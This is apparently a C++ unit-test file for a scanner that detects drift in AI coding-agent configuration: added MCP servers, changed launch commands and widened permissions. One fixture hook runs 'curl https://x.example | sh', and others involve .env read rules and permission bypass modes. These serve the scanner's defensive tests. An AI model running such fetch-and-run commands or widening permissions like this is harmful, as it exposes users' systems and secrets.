// What changed between two scans' inventories (compare_inventory), and the drift rules on top of
// it: DRIFT-001 server added, DRIFT-002 server launch changed, DRIFT-003 permissions widened.
#include <algorithm>
#include <set>
#include <string>
#include <vector>

#include <boost/test/unit_test.hpp>

#include <confscope/history/drift.hpp>
#include <confscope/history/inventory_diff.hpp>
#include <confscope/scan/model.hpp>

using namespace confscope;
using namespace confscope::history;

namespace {

constexpr const char* kClaudeJson = "~/.claude.json";
constexpr const char* kSettings = ".claude/settings.json";
constexpr const char* kGithub =
    R"({"transport":"stdio","command":"docker","args":["run","-i","--rm","ghcr.io/github/github-mcp-server"],"env":["GITHUB_TOKEN"]})";

InventoryEntry entry(std::string kind, std::string name, std::string path, std::string data,
                     std::string pointer) {
    InventoryEntry e;
    e.plugin = "claude-code";
    e.kind = std::move(kind);
    e.client = "claude-code";
    e.scope = "user";
    e.name = std::move(name);
    e.display_path = std::move(path);
    e.data_json = std::move(data);
    e.pointer = std::move(pointer);
    e.line = 7;
    e.column = 5;
    return e;
}

InventoryEntry server(const std::string& name, const std::string& data,
                      const std::string& path = kClaudeJson) {
    return entry("mcp_server", name, path, data, "/mcpServers/" + name);
}

InventoryEntry stdio_server(const std::string& name, const std::string& command,
                            const std::string& args_json, const std::string& path = kClaudeJson) {
    return server(name,
                  R"({"transport":"stdio","command":")" + command + R"(","args":)" + args_json +
                      R"(,"env":["TOKEN"]})",
                  path);
}

InventoryEntry url_server(const std::string& name, const std::string& url) {
    return server(name, R"({"transport":"http","url":")" + url + R"("})");
}

InventoryEntry rule(const std::string& text, const std::string& list,
                    const std::string& path = kSettings) {
    const std::string tool = text.substr(0, text.find('('));
    return entry("permission_rule", text, path,
                 R"({"list":")" + list + R"(","rule":")" + text + R"(","tool":")" + tool + R"("})",
                 "/permissions/" + list + "/0");
}

InventoryEntry mode(const std::string& value, const std::string& path = kSettings) {
    return entry("permission_mode", value, path, R"({"mode":")" + value + R"("})",
                 "/permissions/defaultMode");
}

InventoryEntry hook(const std::string& name, const std::string& command) {
    return entry("hook", name, kSettings,
                 R"({"event":"PreToolUse","type":"command","command":")" + command + R"("})",
                 "/hooks/PreToolUse/0/hooks/0");
}

std::size_t count(const std::vector<InventoryChange>& changes, ChangeKind kind) {
    return static_cast<std::size_t>(std::count_if(changes.begin(), changes.end(),
                                                  [&](const auto& c) { return c.change == kind; }));
}

std::vector<DriftFinding> drift(const std::vector<InventoryEntry>& before,
                                const std::vector<InventoryEntry>& after) {
    return drift_findings(compare_inventory(before, after), "scan 12");
}

std::string severity(sdk::Severity s) {
    return std::string(sdk::to_string(s));
}

}  // namespace

BOOST_AUTO_TEST_SUITE(drift_inventory)

BOOST_AUTO_TEST_CASE(unchanged_inventories_have_no_changes) {
    const std::vector<InventoryEntry> items = {server("github", kGithub),
                                               rule("Bash(ls:*)", "allow"), mode("default"),
                                               hook("PreToolUse Bash #1", "./x")};
    BOOST_TEST(compare_inventory(items, items).empty());
    BOOST_TEST(compare_inventory({}, {}).empty());
}

BOOST_AUTO_TEST_CASE(servers_added_removed_and_changed_in_words) {
    const auto added = compare_inventory({}, {server("github", kGithub)});
    BOOST_REQUIRE(added.size() == 1u);
    BOOST_TEST(to_string(added[0].change) == "added");
    BOOST_TEST(added[0].after.name == "github");
    BOOST_TEST(added[0].before.name.empty());
    BOOST_TEST(added[0].entry().name == "github");
    BOOST_TEST(added[0].description ==
               R"(MCP server "github" added in ~/.claude.json: runs "docker run -i --rm )"
               R"(ghcr.io/github/github-mcp-server")");

    const auto remote = compare_inventory({}, {url_server("remote", "https://mcp.example/sse")});
    BOOST_REQUIRE(remote.size() == 1u);
    BOOST_TEST(
        remote[0].description ==
        R"(MCP server "remote" added in ~/.claude.json: connects to https://mcp.example/sse)");

    const auto removed = compare_inventory({server("github", kGithub)}, {});
    BOOST_REQUIRE(removed.size() == 1u);
    BOOST_TEST(to_string(removed[0].change) == "removed");
    BOOST_TEST(removed[0].entry().name == "github");
    BOOST_TEST(removed[0].after.name.empty());
    BOOST_TEST(removed[0].description == R"(MCP server "github" removed from ~/.claude.json)");

    const auto changed = compare_inventory({stdio_server("fs", "npx", R"(["-y","pkg@1"])")},
                                           {stdio_server("fs", "npx", R"(["-y","pkg@2"])")});
    BOOST_REQUIRE(changed.size() == 1u);
    BOOST_TEST(to_string(changed[0].change) == "changed");
    BOOST_REQUIRE(changed[0].fields.size() == 1u);
    BOOST_TEST(changed[0].fields[0].field == "args");
    BOOST_TEST(changed[0].fields[0].before == "-y pkg@1");
    BOOST_TEST(changed[0].fields[0].after == "-y pkg@2");
    BOOST_TEST(
        changed[0].description ==
        R"(MCP server "fs" in ~/.claude.json: now runs "npx -y pkg@2" (was "npx -y pkg@1"))");

    // Command and args both changed: said once.
    const auto relaunched = compare_inventory({stdio_server("fs", "npx", R"(["-y","pkg@1"])")},
                                              {stdio_server("fs", "uvx", R"(["pkg@1"])")});
    BOOST_REQUIRE(relaunched.size() == 1u);
    BOOST_TEST(relaunched[0].fields.size() == 2u);
    BOOST_TEST(relaunched[0].description ==
               R"(MCP server "fs" in ~/.claude.json: now runs "uvx pkg@1" (was "npx -y pkg@1"))");

    const auto moved = compare_inventory({url_server("remote", "https://a.example/mcp")},
                                         {url_server("remote", "https://b.example/mcp")});
    BOOST_REQUIRE(moved.size() == 1u);
    BOOST_TEST(moved[0].description ==
               "MCP server \"remote\" in ~/.claude.json: now connects to https://b.example/mcp "
               "(was https://a.example/mcp)");
}

BOOST_AUTO_TEST_CASE(hooks_say_what_they_run) {
    const auto added = compare_inventory({}, {hook("PreToolUse Bash #1", "./check.sh")});
    BOOST_REQUIRE(added.size() == 1u);
    BOOST_TEST(added[0].description ==
               R"(hook "PreToolUse Bash #1" added in .claude/settings.json: runs "./check.sh")");
}

BOOST_AUTO_TEST_CASE(identical_rules_are_counted_not_merged) {
    const auto changes = compare_inventory(
        {rule("Bash(ls:*)", "allow"), rule("Bash(ls:*)", "allow")}, {rule("Bash(ls:*)", "allow")});
    BOOST_REQUIRE(changes.size() == 1u);
    BOOST_TEST(to_string(changes[0].change) == "removed");
    BOOST_TEST(
        changes[0].description ==
        R"~(permission rule "Bash(ls:*)" removed from the allow list in .claude/settings.json)~");

    const auto doubled = compare_inventory(
        {rule("Bash(ls:*)", "allow")}, {rule("Bash(ls:*)", "allow"), rule("Bash(ls:*)", "allow")});
    BOOST_REQUIRE(doubled.size() == 1u);
    BOOST_TEST(to_string(doubled[0].change) == "added");
}

BOOST_AUTO_TEST_CASE(a_rule_moved_between_lists_is_removed_and_added) {
    const auto changes =
        compare_inventory({rule("Bash(rm:*)", "deny")}, {rule("Bash(rm:*)", "allow")});
    BOOST_REQUIRE(changes.size() == 2u);
    BOOST_TEST(count(changes, ChangeKind::added) == 1u);
    BOOST_TEST(count(changes, ChangeKind::removed) == 1u);
    BOOST_TEST(count(changes, ChangeKind::changed) == 0u);
    for (const InventoryChange& c : changes) {
        if (c.change == ChangeKind::added) {
            BOOST_TEST(
                c.description ==
                R"~(permission rule "Bash(rm:*)" added to the allow list in .claude/settings.json)~");
        } else {
            BOOST_TEST(
                c.description ==
                R"~(permission rule "Bash(rm:*)" removed from the deny list in .claude/settings.json)~");
        }
    }
}

BOOST_AUTO_TEST_CASE(a_new_permission_mode_is_one_change) {
    const auto changes = compare_inventory({mode("default")}, {mode("acceptEdits")});
    BOOST_REQUIRE(changes.size() == 1u);
    BOOST_TEST(to_string(changes[0].change) == "changed");
    BOOST_REQUIRE(changes[0].fields.size() == 1u);
    BOOST_TEST(changes[0].fields[0].field == "mode");
    BOOST_TEST(changes[0].fields[0].before == "default");
    BOOST_TEST(changes[0].fields[0].after == "acceptEdits");
    BOOST_TEST(changes[0].description ==
               R"(default permission mode in .claude/settings.json changed from "default" to )"
               R"("acceptEdits")");

    const auto set = compare_inventory({}, {mode("plan")});
    BOOST_REQUIRE(set.size() == 1u);
    BOOST_TEST(set[0].description ==
               R"(default permission mode set to "plan" in .claude/settings.json)");
    const auto unset = compare_inventory({mode("plan")}, {});
    BOOST_REQUIRE(unset.size() == 1u);
    BOOST_TEST(unset[0].description ==
               R"(default permission mode "plan" removed from .claude/settings.json )"
               R"((the client's default applies))");
}

BOOST_AUTO_TEST_CASE(items_in_different_files_are_different_items) {
    const auto changes = compare_inventory({stdio_server("fs", "npx", R"(["pkg"])", kClaudeJson)},
                                           {stdio_server("fs", "npx", R"(["pkg"])", ".mcp.json")});
    BOOST_REQUIRE(changes.size() == 2u);
    BOOST_TEST(to_string(changes[0].change) == "added");
    BOOST_TEST(changes[0].entry().display_path == ".mcp.json");
    BOOST_TEST(to_string(changes[1].change) == "removed");
    BOOST_TEST(changes[1].entry().display_path == kClaudeJson);

    // Two modes in two files: each file has its own.
    const auto modes =
        compare_inventory({mode("default", "a/settings.json"), mode("default", "b/settings.json")},
                          {mode("default", "a/settings.json"), mode("auto", "b/settings.json")});
    BOOST_REQUIRE(modes.size() == 1u);
    BOOST_TEST(modes[0].entry().display_path == "b/settings.json");
}

BOOST_AUTO_TEST_CASE(a_servers_project_is_part_of_who_it_is) {
    const std::string a = R"({"command":"npx","args":["pkg"],"project":"/src/a"})";
    const std::string b = R"({"command":"npx","args":["pkg@2"],"project":"/src/b"})";
    const auto changes = compare_inventory({server("fs", a)}, {server("fs", b)});
    BOOST_TEST(changes.size() == 2u);
    BOOST_TEST(count(changes, ChangeKind::added) == 1u);
    BOOST_TEST(count(changes, ChangeKind::removed) == 1u);
}

BOOST_AUTO_TEST_CASE(changes_are_ordered_by_display_path_then_kind_and_name) {
    const auto changes = compare_inventory(
        {rule("Read(./x)", "deny", "z/settings.json")},
        {server("zeta", kGithub, "b.json"), rule("Bash(a)", "allow", "c.json"),
         server("alpha", kGithub, "b.json"), mode("auto", "a.json"), hook("H #1", "./h")});
    std::vector<std::string> order;
    for (const InventoryChange& c : changes)
        order.push_back(c.entry().display_path + " " + c.entry().kind + " " + c.entry().name);
    const std::vector<std::string> expected = {
        ".claude/settings.json hook H #1", "a.json permission_mode auto",
        "b.json mcp_server alpha",         "b.json mcp_server zeta",
        "c.json permission_rule Bash(a)",  "z/settings.json permission_rule Read(./x)"};
    BOOST_TEST(order == expected, boost::test_tools::per_element());
}

BOOST_AUTO_TEST_CASE(kinds_and_launch_lines_in_words) {
    BOOST_TEST(kind_in_words("mcp_server") == "MCP server");
    BOOST_TEST(kind_in_words("permission_rule") == "permission rule");
    BOOST_TEST(kind_in_words("permission_mode") == "default permission mode");
    BOOST_TEST(kind_in_words("hook") == "hook");
    BOOST_TEST(kind_in_words("some_new_kind") == "some new kind");

    BOOST_TEST(launch_of(stdio_server("fs", "npx", R"(["-y","pkg@1"])")) == "npx -y pkg@1");
    BOOST_TEST(launch_of(url_server("r", "https://mcp.example")) == "https://mcp.example");
    BOOST_TEST(launch_of(server("bare", R"({"command":"server-bin"})")) == "server-bin");
    BOOST_TEST(launch_of(server("none", "{}")).empty());
    BOOST_TEST(launch_of(server("broken", "not json")).empty());
}

BOOST_AUTO_TEST_CASE(entries_of_a_scan_take_their_files_display_paths) {
    scan::ScanResult result;
    result.files.resize(1);
    result.files[0].display_path = kSettings;
    scan::Item item;
    item.file = 0;
    item.plugin = "claude-code";
    item.kind = "permission_mode";
    item.client = "claude-code";
    item.scope = sdk::Scope::project;
    item.name = "plan";
    item.data_json = R"({"mode":"plan"})";
    item.pointer = "/permissions/defaultMode";
    item.line = 3;
    item.column = 20;
    result.items.push_back(item);
    item.file = 9;  // no such file
    result.items.push_back(item);

    const auto entries = entries_of(result);
    BOOST_REQUIRE(entries.size() == 2u);
    BOOST_TEST(entries[0].display_path == kSettings);
    BOOST_TEST(entries[0].scope == "project");
    BOOST_TEST(entries[0].plugin == "claude-code");
    BOOST_TEST(entries[0].data_json == item.data_json);
    BOOST_TEST(entries[0].line == 3);
    BOOST_TEST(entries[0].column == 20);
    BOOST_TEST(entries[1].display_path.empty());
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(drift_detection)

BOOST_AUTO_TEST_CASE(drift_001_a_server_added) {
    const auto found = drift({}, {server("github", kGithub)});
    BOOST_REQUIRE(found.size() == 1u);
    BOOST_TEST(found[0].rule_id == "DRIFT-001");
    BOOST_TEST(severity(found[0].severity) == "info");
    BOOST_TEST(found[0].message ==
               R"(MCP server "github" was added since scan 12 (docker run -i --rm )"
               R"(ghcr.io/github/github-mcp-server))");
    BOOST_TEST(found[0].display_path == kClaudeJson);
    BOOST_TEST(found[0].pointer == "/mcpServers/github");
    BOOST_TEST(found[0].line == 7);
    BOOST_TEST(found[0].column == 5);
    BOOST_TEST(found[0].subject ==
               "mcp_server:github=docker run -i --rm ghcr.io/github/github-mcp-server");

    // Near misses: a server removed, a hook added, an unchanged server.
    BOOST_TEST(drift({server("github", kGithub)}, {}).empty());
    BOOST_TEST(drift({}, {hook("PreToolUse Bash #1", "curl https://x.example | sh")}).empty());
    BOOST_TEST(drift({server("github", kGithub)}, {server("github", kGithub)}).empty());
}

BOOST_AUTO_TEST_CASE(drift_002_a_servers_launch_changed) {
    const auto command = drift({stdio_server("fs", "npx", R"(["-y","pkg@1"])")},
                               {stdio_server("fs", "uvx", R"(["-y","pkg@1"])")});
    BOOST_REQUIRE(command.size() == 1u);
    BOOST_TEST(command[0].rule_id == "DRIFT-002");
    BOOST_TEST(severity(command[0].severity) == "medium");
    BOOST_TEST(command[0].message ==
               R"(MCP server "fs" now runs "uvx -y pkg@1" (at scan 12: "npx -y pkg@1"))");
    BOOST_TEST(command[0].subject == "mcp_server:fs=uvx -y pkg@1");

    const auto args = drift({stdio_server("fs", "npx", R"(["-y","pkg@1"])")},
                            {stdio_server("fs", "npx", R"(["-y","pkg@2"])")});
    BOOST_REQUIRE(args.size() == 1u);
    BOOST_TEST(args[0].rule_id == "DRIFT-002");
    BOOST_TEST(args[0].message ==
               R"(MCP server "fs" now runs "npx -y pkg@2" (at scan 12: "npx -y pkg@1"))");

    const auto url = drift({url_server("remote", "https://a.example/mcp")},
                           {url_server("remote", "https://b.example/mcp")});
    BOOST_REQUIRE(url.size() == 1u);
    BOOST_TEST(url[0].rule_id == "DRIFT-002");
    BOOST_TEST(severity(url[0].severity) == "medium");
    BOOST_TEST(url[0].message ==
               R"(MCP server "remote" now uses "https://b.example/mcp" (at scan 12: )"
               R"("https://a.example/mcp"))");

    // Near miss: only the names of the environment variables changed.
    const std::string before =
        R"({"transport":"stdio","command":"npx","args":["pkg"],"env":["A"]})";
    const std::string after =
        R"({"transport":"stdio","command":"npx","args":["pkg"],"env":["A","B"]})";
    const auto changes = compare_inventory({server("fs", before)}, {server("fs", after)});
    BOOST_REQUIRE(changes.size() == 1u);  // it is a change of the inventory...
    BOOST_TEST(changes[0].fields.size() == 1u);
    BOOST_TEST(changes[0].fields[0].field == "env");
    BOOST_TEST(drift_findings(changes, "scan 12").empty());  // ...but not drift
}

BOOST_AUTO_TEST_CASE(drift_003_permissions_widened) {
    const auto allow = drift({}, {rule("Bash(curl:*)", "allow")});
    BOOST_REQUIRE(allow.size() == 1u);
    BOOST_TEST(allow[0].rule_id == "DRIFT-003");
    BOOST_TEST(severity(allow[0].severity) == "high");
    BOOST_TEST(allow[0].message == R"~(allow rule "Bash(curl:*)" was added since scan 12)~");
    BOOST_TEST(allow[0].line == 7);

    const auto deny = drift({rule("Read(./.env)", "deny")}, {});
    BOOST_REQUIRE(deny.size() == 1u);
    BOOST_TEST(deny[0].rule_id == "DRIFT-003");
    BOOST_TEST(deny[0].message == R"~(deny rule "Read(./.env)" was removed since scan 12)~");
    BOOST_TEST(deny[0].display_path == kSettings);
    BOOST_TEST(deny[0].pointer == "/permissions/deny/0");
    BOOST_TEST(deny[0].line == 0);  // positioned in the older scan's file: no line
    BOOST_TEST(deny[0].column == 0);

    // deny -> allow: the deny removed and the allow added, both widen.
    BOOST_TEST(drift({rule("Bash(rm:*)", "deny")}, {rule("Bash(rm:*)", "allow")}).size() == 2u);

    const auto wider = drift({mode("default")}, {mode("acceptEdits")});
    BOOST_REQUIRE(wider.size() == 1u);
    BOOST_TEST(wider[0].rule_id == "DRIFT-003");
    BOOST_TEST(severity(wider[0].severity) == "high");
    BOOST_TEST(wider[0].message ==
               R"(default permission mode is "acceptEdits" (at scan 12: "default"))");
    BOOST_TEST(wider[0].pointer == "/permissions/defaultMode");

    const auto bypass = drift({}, {mode("bypassPermissions")});
    BOOST_REQUIRE(bypass.size() == 1u);
    BOOST_TEST(bypass[0].message ==
               R"(default permission mode is "bypassPermissions" (at scan 12: "default"))");

    // Removing "plan" leaves the client's default, which is wider.
    const auto unplanned = drift({mode("plan")}, {});
    BOOST_REQUIRE(unplanned.size() == 1u);
    BOOST_TEST(unplanned[0].message ==
               R"(default permission mode is "default" (at scan 12: "plan"))");
    BOOST_TEST(unplanned[0].line == 0);
}

BOOST_AUTO_TEST_CASE(drift_003_near_misses) {
    BOOST_TEST(drift({}, {rule("Bash(rm:*)", "deny")}).empty());
    BOOST_TEST(drift({}, {rule("Bash(git push:*)", "ask")}).empty());
    BOOST_TEST(drift({rule("Bash(curl:*)", "allow")}, {}).empty());
    BOOST_TEST(drift({rule("Bash(curl:*)", "ask")}, {}).empty());
    BOOST_TEST(drift({rule("Bash(ls:*)", "allow")}, {rule("Bash(ls:*)", "allow")}).empty());
    BOOST_TEST(drift({mode("acceptEdits")}, {mode("plan")}).empty());
    BOOST_TEST(drift({mode("bypassPermissions")}, {}).empty());  // back to the default: narrower
    BOOST_TEST(drift({mode("default")}, {mode("manual")}).empty());  // same rank
    BOOST_TEST(drift({}, {mode("default")}).empty());
    BOOST_TEST(drift({}, {mode("plan")}).empty());
    // A mode this build does not know is never called wider.
    BOOST_TEST(drift({mode("default")}, {mode("yolo")}).empty());
    BOOST_TEST(drift({}, {mode("yolo")}).empty());
}

BOOST_AUTO_TEST_CASE(permission_modes_are_ranked) {
    BOOST_TEST(permission_mode_rank("plan").value() == 0);
    BOOST_TEST(permission_mode_rank("dontAsk").value() == 0);
    BOOST_TEST(permission_mode_rank("default").value() == 1);
    BOOST_TEST(permission_mode_rank("manual").value() == 1);
    BOOST_TEST(permission_mode_rank("acceptEdits").value() == 2);
    BOOST_TEST(permission_mode_rank("auto").value() == 3);
    BOOST_TEST(permission_mode_rank("bypassPermissions").value() == 4);
    BOOST_TEST(*permission_mode_rank("plan") < *permission_mode_rank("default"));
    BOOST_TEST(*permission_mode_rank("default") < *permission_mode_rank("acceptEdits"));
    BOOST_TEST(*permission_mode_rank("acceptEdits") < *permission_mode_rank("auto"));
    BOOST_TEST(*permission_mode_rank("auto") < *permission_mode_rank("bypassPermissions"));
    BOOST_TEST(!permission_mode_rank("yolo").has_value());
    BOOST_TEST(!permission_mode_rank("").has_value());
    BOOST_TEST(!permission_mode_rank("BypassPermissions").has_value());  // case matters
}

BOOST_AUTO_TEST_CASE(the_core_catalogue_lists_the_drift_rules) {
    const auto rules = scan::core_rules();
    const auto severity_of = [&](const std::string& id) {
        const auto it = std::find_if(rules.begin(), rules.end(),
                                     [&](const scan::RuleInfo& r) { return r.id == id; });
        BOOST_REQUIRE_MESSAGE(it != rules.end(), id + " is not in core_rules()");
        BOOST_TEST(it->plugin == "core");
        BOOST_TEST(!it->title.empty());
        BOOST_TEST(!it->help.empty());
        return severity(it->severity);
    };
    BOOST_TEST(severity_of("DRIFT-001") == "info");
    BOOST_TEST(severity_of("DRIFT-002") == "medium");
    BOOST_TEST(severity_of("DRIFT-003") == "high");
    BOOST_TEST(severity_of("CFG-001") == "low");
    BOOST_TEST(drift_rules().size() == 3u);
}

BOOST_AUTO_TEST_SUITE_END()

namespace {

// A scan of two files by two plugins that both ran to the end.
scan::ScanResult scan_of(const std::vector<InventoryEntry>& entries) {
    scan::ScanResult result;
    for (const char* path : {kClaudeJson, kSettings}) {
        result.files.emplace_back();
        result.files.back().plugin = "claude-code";
        result.files.back().path = std::string("/home/u/") + path;
        result.files.back().display_path = path;
    }
    for (const char* name : {"claude-code", "mcp"}) {
        result.plugins.emplace_back();
        result.plugins.back().name = name;
        result.plugins.back().failed = false;
    }
    for (const InventoryEntry& e : entries) {
        scan::Item item;
        const auto file = std::find_if(
            result.files.begin(), result.files.end(),
            [&](const scan::FileRecord& f) { return f.display_path == e.display_path; });
        BOOST_REQUIRE(file != result.files.end());
        item.file = static_cast<std::size_t>(file - result.files.begin());
        item.plugin = e.plugin;
        item.kind = e.kind;
        item.client = e.client;
        item.scope = sdk::Scope::user;
        item.name = e.name;
        item.data_json = e.data_json;
        item.pointer = e.pointer;
        item.line = static_cast<std::uint32_t>(e.line);
        item.column = static_cast<std::uint32_t>(e.column);
        result.items.push_back(std::move(item));
    }
    return result;
}

InventoryEntry from(std::string plugin, InventoryEntry e) {
    e.plugin = std::move(plugin);
    return e;
}

const std::set<std::string> kBothRan = {"claude-code", "mcp"};

}  // namespace

BOOST_AUTO_TEST_SUITE(drift_scan)

BOOST_AUTO_TEST_CASE(findings_are_appended_in_their_files) {
    scan::ScanResult result = scan_of({server("github", kGithub), mode("acceptEdits")});
    scan::Finding existing;
    existing.rule_id = "PERM-004";
    existing.fingerprint = "ffff";
    result.findings.push_back(existing);

    const std::size_t added = add_drift_findings(result, {mode("default")}, kBothRan, "scan 12");
    BOOST_TEST(added == 2u);
    BOOST_REQUIRE(result.findings.size() == 3u);
    BOOST_TEST(result.findings[0].rule_id == "PERM-004");  // untouched
    BOOST_TEST(result.findings[0].fingerprint == "ffff");

    // In the order of their display paths: ".claude/settings.json" before "~/.claude.json".
    const scan::Finding& server_added = result.findings[2];
    BOOST_TEST(server_added.rule_id == "DRIFT-001");
    BOOST_TEST(server_added.file == 0u);
    BOOST_TEST(server_added.plugin == "core");
    BOOST_TEST(severity(server_added.severity) == "info");
    BOOST_TEST(server_added.pointer == "/mcpServers/github");
    BOOST_TEST(server_added.line == 7u);
    BOOST_TEST(server_added.column == 5u);
    BOOST_TEST(server_added.message.find("was added since scan 12") != std::string::npos);
    BOOST_TEST(!server_added.fingerprint.empty());
    BOOST_TEST(!server_added.suppressed);

    const scan::Finding& widened = result.findings[1];
    BOOST_TEST(widened.rule_id == "DRIFT-003");
    BOOST_TEST(widened.file == 1u);
    BOOST_TEST(widened.plugin == "core");
    BOOST_TEST(severity(widened.severity) == "high");
    BOOST_TEST(widened.pointer == "/permissions/defaultMode");
    BOOST_TEST(!widened.fingerprint.empty());
    BOOST_TEST(widened.fingerprint != server_added.fingerprint);
}

BOOST_AUTO_TEST_CASE(nothing_changed_nothing_added) {
    const std::vector<InventoryEntry> items = {server("github", kGithub), mode("default")};
    scan::ScanResult result = scan_of(items);
    BOOST_TEST(add_drift_findings(result, items, kBothRan, "scan 12") == 0u);
    BOOST_TEST(result.findings.empty());
}

BOOST_AUTO_TEST_CASE(fingerprints_tell_changes_at_one_place_apart) {
    const std::vector<InventoryEntry> previous = {stdio_server("fs", "npx", R"(["pkg@1"])")};
    const auto fingerprint_after = [&](const std::string& args) {
        scan::ScanResult result = scan_of({stdio_server("fs", "npx", args)});
        BOOST_REQUIRE(add_drift_findings(result, previous, kBothRan, "scan 12") == 1u);
        BOOST_TEST(result.findings[0].rule_id == "DRIFT-002");
        BOOST_TEST(result.findings[0].pointer == "/mcpServers/fs");
        return result.findings[0].fingerprint;
    };
    const std::string two = fingerprint_after(R"(["pkg@2"])");
    const std::string three = fingerprint_after(R"(["pkg@3"])");
    BOOST_TEST(!two.empty());
    BOOST_TEST(two != three);                              // a later change is a new finding
    BOOST_TEST(two == fingerprint_after(R"(["pkg@2"])"));  // the same change is the same one
}

BOOST_AUTO_TEST_CASE(only_plugins_that_ran_in_both_scans_count) {
    // The mcp plugin did not run in the previous scan: its server is not "added".
    {
        scan::ScanResult result = scan_of({from("mcp", server("github", kGithub))});
        BOOST_TEST(add_drift_findings(result, {}, {"claude-code"}, "scan 12") == 0u);
        BOOST_TEST(result.findings.empty());
    }
    // The mcp plugin failed now: what it had before is not "removed", what it has is not "added".
    {
        scan::ScanResult result = scan_of({from("mcp", server("github", kGithub))});
        result.plugins[1].failed = true;
        result.plugins[1].error = "crashed";
        const std::vector<InventoryEntry> previous = {
            from("mcp", rule("Read(./.env)", "deny")),
            from("mcp", stdio_server("github", "npx", R"(["old"])"))};
        BOOST_TEST(add_drift_findings(result, previous, kBothRan, "scan 12") == 0u);
        BOOST_TEST(result.findings.empty());
    }
    // A plugin of the previous scan that did not take part now: nothing of it counts.
    {
        scan::ScanResult result = scan_of({});
        const std::vector<InventoryEntry> previous = {from("other", rule("Read(./.env)", "deny"))};
        BOOST_TEST(add_drift_findings(result, previous, {"claude-code", "other"}, "scan 12") == 0u);
    }
    // The same change from a plugin that ran in both is drift.
    {
        scan::ScanResult result = scan_of({from("mcp", server("github", kGithub))});
        BOOST_TEST(add_drift_findings(result, {}, kBothRan, "scan 12") == 1u);
    }
}

BOOST_AUTO_TEST_CASE(findings_outside_this_scans_files_are_dropped) {
    // A deny rule removed from a file this scan no longer has: nowhere to put the finding.
    scan::ScanResult result = scan_of({rule("Bash(curl:*)", "allow")});
    const std::vector<InventoryEntry> previous = {
        rule("Read(./.env)", "deny", "gone/settings.json")};
    BOOST_TEST(add_drift_findings(result, previous, kBothRan, "scan 12") == 1u);
    BOOST_REQUIRE(result.findings.size() == 1u);
    BOOST_TEST(result.findings[0].message ==
               R"~(allow rule "Bash(curl:*)" was added since scan 12)~");
    BOOST_TEST(result.findings[0].file == 1u);
}

BOOST_AUTO_TEST_SUITE_END()
